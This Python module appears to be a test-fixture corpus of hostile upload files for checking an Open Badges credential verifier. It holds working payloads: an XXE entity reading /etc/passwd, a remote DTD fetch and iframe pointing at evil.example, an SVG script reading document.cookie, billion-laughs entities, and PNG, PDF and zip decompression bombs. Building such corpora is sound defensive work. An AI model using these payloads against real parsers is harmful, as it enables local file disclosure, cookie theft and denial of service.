"""A corpus of hostile files for any code that reads what people upload: each function returns the bytes.

The files are small (a few MB at most) but claim to be huge: image dimensions, chunk lengths, decompressed
sizes, nesting. :data:`CORPUS` names them all for parametrised tests; :func:`tiny_png` and :func:`tiny_svg`
are well-behaved images to bake into.
"""

from __future__ import annotations

import base64
import io
import json
import struct
import zipfile
import zlib
from collections.abc import Callable

__all__ = [
    "CORPUS",
    "chunk",
    "json_deep",
    "json_huge_exponent",
    "json_huge_integer",
    "jwt_alg_none",
    "not_utf8",
    "pdf_attachment_bomb",
    "pdf_garbage",
    "pdf_without_credential",
    "png_bad_crc",
    "png_credential_bomb",
    "png_garbage_chunks",
    "png_huge_dimensions",
    "png_many_chunks",
    "png_no_iend",
    "png_oversized_chunk",
    "png_truncated",
    "png_two_credentials",
    "png_without_credential",
    "svg_billion_laughs",
    "svg_event_attribute",
    "svg_external_entity",
    "svg_external_href",
    "svg_foreign_object",
    "svg_internal_dtd",
    "svg_not_xml",
    "svg_script",
    "svg_without_credential",
    "tiny_png",
    "tiny_svg",
    "zip_bomb",
]

PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def chunk(ctype: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    """One PNG chunk, its CRC right unless ``crc`` says otherwise."""
    value = zlib.crc32(ctype + body) if crc is None else crc
    return struct.pack(">I", len(body)) + ctype + body + struct.pack(">I", value)


def _ihdr(width: int = 1, height: int = 1) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0))


def _idat() -> bytes:
    return chunk(b"IDAT", zlib.compress(b"\x00\x1f\x4e\x79\xff"))


def tiny_png(*extra: bytes) -> bytes:
    """A valid 1 x 1 PNG; ``extra`` chunks go after IHDR."""
    return PNG_SIGNATURE + _ihdr() + b"".join(extra) + _idat() + chunk(b"IEND", b"")


def tiny_svg() -> bytes:
    """A valid, safe SVG badge."""
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" width="100" height="100">\n'
        b'  <title>Badge</title>\n  <circle cx="50" cy="50" r="40" fill="#1f4e79"/>\n'
        b'  <use href="#c"/>\n</svg>\n'
    )


def _itxt(keyword: bytes, text: bytes, *, compressed: bool = False) -> bytes:
    body = zlib.compress(text) if compressed else text
    return chunk(b"iTXt", keyword + b"\0" + (b"\1\0" if compressed else b"\0\0") + b"\0\0" + body)


# -- PNG ------------------------------------------------------------------------------------------


def png_without_credential() -> bytes:
    """A valid PNG that carries nothing."""
    return tiny_png()


def png_garbage_chunks() -> bytes:
    """A PNG with hundreds of unknown chunks (CRCs right) and random bytes after IEND."""
    garbage = b"".join(chunk(b"zzGb", bytes([i % 256]) * 1000) for i in range(300))
    return tiny_png(garbage) + b"\xde\xad\xbe\xef" * 1000


def png_oversized_chunk() -> bytes:
    """A chunk that claims to be 2 GB long."""
    return PNG_SIGNATURE + _ihdr() + struct.pack(">I", 0x7FFFFFF0) + b"iTXt" + b"openbadgecredential\0" * 10


def png_truncated() -> bytes:
    """A PNG cut off in the middle of its credential chunk."""
    return tiny_png(_itxt(b"openbadgecredential", b'{"a": 1}' * 100))[:120]


def png_no_iend() -> bytes:
    """A PNG that never ends."""
    return tiny_png()[:-12]


def png_bad_crc() -> bytes:
    """A credential chunk whose CRC is wrong (a tampered or damaged image)."""
    return tiny_png(chunk(b"iTXt", b"openbadgecredential\0\0\0\0\0{}", crc=0x12345678))


def png_huge_dimensions() -> bytes:
    """A decompression bomb by its header: 100 000 x 100 000 pixels claimed, a few bytes of data."""
    return PNG_SIGNATURE + _ihdr(100_000, 100_000) + _idat() + chunk(b"IEND", b"")


def png_credential_bomb() -> bytes:
    """A compressed credential chunk of about 20 kB that inflates to 20 MB."""
    compressor = zlib.compressobj(9)
    block = b" " * 1_000_000
    body = b"".join(compressor.compress(block) for _ in range(20)) + compressor.flush()
    return tiny_png(chunk(b"iTXt", b"openbadgecredential\0\1\0\0\0" + body))


def png_many_chunks() -> bytes:
    """About 150 000 empty chunks: more than any reader should walk."""
    return tiny_png(chunk(b"zzEm", b"") * 150_000)


def png_two_credentials() -> bytes:
    """Two credential chunks: which would a verifier believe?"""
    return tiny_png(_itxt(b"openbadgecredential", b'{"id": "one"}'), _itxt(b"openbadgecredential", b'{"id": "two"}'))


# -- SVG ------------------------------------------------------------------------------------------

_SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">'
_CREDENTIAL = b"<openbadges:credential><![CDATA[{}]]></openbadges:credential>"


def svg_without_credential() -> bytes:
    """A valid SVG that carries nothing."""
    return tiny_svg()


def svg_script() -> bytes:
    """An SVG with a script (safe to read a credential from, never to serve)."""
    return _SVG_OPEN + b"<script>alert(document.cookie)</script>" + _CREDENTIAL + b"</svg>"


def svg_event_attribute() -> bytes:
    """An SVG with an onload handler."""
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="1"/></svg>'


def svg_foreign_object() -> bytes:
    """An SVG that embeds HTML."""
    return (
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        b"<iframe src='https://evil.example'/></div></foreignObject></svg>"
    )


def svg_external_href() -> bytes:
    """An SVG that loads an image from elsewhere (a tracking pixel)."""
    return b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/pixel.png"/></svg>'


def svg_external_entity() -> bytes:
    """XXE: an entity that would read a local file."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
        + _SVG_OPEN
        + b"<openbadges:credential>&xxe;</openbadges:credential></svg>"
    )


def svg_billion_laughs() -> bytes:
    """Nested entities that expand to gigabytes."""
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10)
    )
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg ['
        + entities
        + b"]>\n"
        + _SVG_OPEN
        + b"<openbadges:credential>&lol9;</openbadges:credential></svg>"
    )


def svg_internal_dtd() -> bytes:
    """A DTD with an internal subset declaring a parameter entity that fetches from elsewhere."""
    return (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY % remote SYSTEM "https://evil.example/x.dtd"> %remote;]>\n'
        + _SVG_OPEN
        + _CREDENTIAL
        + b"</svg>"
    )


def svg_not_xml() -> bytes:
    """Something that starts like markup and is not XML."""
    return b"<svg <<< " + b"\xff" * 100


# -- PDF ------------------------------------------------------------------------------------------


def _pdf(objects: list[bytes], root: int = 1) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def _pdf_with_attachment(stream: bytes, filters: bytes) -> bytes:
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [(credential.json) 4 0 R] >> >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            b"<< /Type /Filespec /F (credential.json) /UF (credential.json) /EF << /F 5 0 R >> >>",
            b"<< /Type /EmbeddedFile " + filters + b" /Length %d >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def pdf_attachment_bomb() -> bytes:
    """A PDF whose credential.json attachment inflates to 20 MB."""
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(b"[" * 1_000_000) for _ in range(20)) + compressor.flush()
    return _pdf_with_attachment(body, b"/Filter /FlateDecode")


def pdf_without_credential() -> bytes:
    """A valid one-page PDF with no attachment."""
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        ]
    )


def pdf_garbage() -> bytes:
    """A PDF header followed by noise, with a cross-reference table pointing everywhere."""
    noise = bytes((i * 7919) % 251 for i in range(200_000))
    return b"%PDF-1.7\n" + noise + b"\nxref\n0 99999\ntrailer\n<< /Size 99999 /Root 1 0 R >>\nstartxref\n9\n%%EOF\n"


# -- other ----------------------------------------------------------------------------------------


def zip_bomb() -> bytes:
    """A zip of a zip of 10 MB of zeros (about 10 kB): a verifier must not open it."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("zeros.json", b"\0" * 10_000_000)
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as zf:
        for i in range(5):
            zf.writestr(f"layer{i}.zip", inner.getvalue())
    return outer.getvalue()


def json_deep() -> bytes:
    """JSON nested 100 000 levels deep."""
    return b'{"a":' * 100_000 + b"1" + b"}" * 100_000


def json_huge_exponent() -> bytes:
    """A number too large for a float."""
    return b'{"@context": ["https://www.w3.org/ns/credentials/v2"], "n": 1e999999}'


def json_huge_integer() -> bytes:
    """An integer of a million digits (slow to convert, refused by Python past 4300 digits)."""
    return b'{"n": ' + b"9" * 1_000_000 + b"}"


def not_utf8() -> bytes:
    """Bytes that are not UTF-8."""
    return b'{"name": "\xff\xfe\xc0\xaf"}'


def jwt_alg_none() -> bytes:
    """An unsigned JWT (alg none) carrying a credential."""

    def part(value: object) -> bytes:
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=")

    payload = {
        "iss": "did:example:issuer",
        "vc": {"@context": ["https://www.w3.org/ns/credentials/v2"], "type": ["VerifiableCredential"]},
    }
    return part({"alg": "none", "typ": "JWT"}) + b"." + part(payload) + b"."


CORPUS: dict[str, Callable[[], bytes]] = {
    name: globals()[name]
    for name in __all__
    if name not in ("CORPUS", "chunk", "tiny_png", "tiny_svg") and not name.endswith("without_credential")
}
"""Every hostile file, by name: none of them may verify, crash a reader, or take long to refuse."""
